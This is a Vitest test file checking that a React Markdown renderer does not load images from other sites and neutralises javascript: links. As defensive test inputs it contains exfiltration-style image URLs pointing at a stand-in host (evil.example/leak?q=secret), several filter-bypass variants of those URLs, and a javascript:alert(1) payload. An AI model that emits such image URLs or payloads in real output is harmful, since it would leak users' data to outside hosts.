import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown/markdown";

const render = (text: string) => renderToStaticMarkup(createElement(Markdown, null, text));

describe("Markdown images", () => {
  it("never makes an image of an address on another site: it becomes a link to follow", () => {
    const html = render("Смотрите ![x](https://evil.example/leak?q=secret) здесь.");
    expect(html).not.toContain("<img");
    expect(html).toContain('<a href="https://evil.example/leak?q=secret" target="_blank" rel="noopener noreferrer">x</a>');
  });

  /** What the browser would fetch by itself: image sources and React's image preloads. */
  const fetched = (html: string) => [...html.matchAll(/<(?:img|link)\b[^>]*?\b(?:src|href)="([^"]*)"/g)].map((m) => new URL(m[1], "http://ours.test").origin);

  it.each([
    ["//evil.example/leak.png"],
    ["/\\evil.example/leak.png"],
    ["http://evil.example/leak.png"],
    ["HTTPS://EVIL.EXAMPLE/leak.png"],
    ["  https://evil.example/leak.png"],
    ["https:evil.example/leak.png"],
  ])("fetches nothing from another site for %j", (src) => {
    const html = render(`![leak](<${src}>)`);
    expect(fetched(html).filter((origin) => origin !== "http://ours.test")).toEqual([]);
  });

  it("shows the address when there is no alt text, and stays text inside a link", () => {
    expect(render("![](https://evil.example/a.png)")).toContain(">https://evil.example/a.png</a>");
    const linked = render("[![badge](https://evil.example/b.svg)](https://ci.example/)");
    expect(linked).not.toContain("<img");
    expect(linked).toContain('<a href="https://ci.example/" target="_blank" rel="noopener noreferrer">badge</a>');
  });

  it("keeps images from this site, by path or relative to the page", () => {
    expect(render("![Схема](/api/documents/d1/file)")).toContain('<img src="/api/documents/d1/file" alt="Схема"/>');
    expect(render("![Схема](images/diagram.png)")).toContain('<img src="images/diagram.png" alt="Схема"/>');
  });

  it.each([["![leak](<  https://evil.example/leak.png>)"], ["![pixel](data:image/png;base64,AAAA)"], ["![empty]()"]])(
    "leaves text, neither an image nor a link, for what is no web address: %j",
    (text) => {
      const html = render(text);
      expect(html).not.toMatch(/<img|<a /);
    },
  );

  it("does not turn a script address into a working link", () => {
    const html = render("![x](javascript:alert(1))");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("javascript:");
  });
});
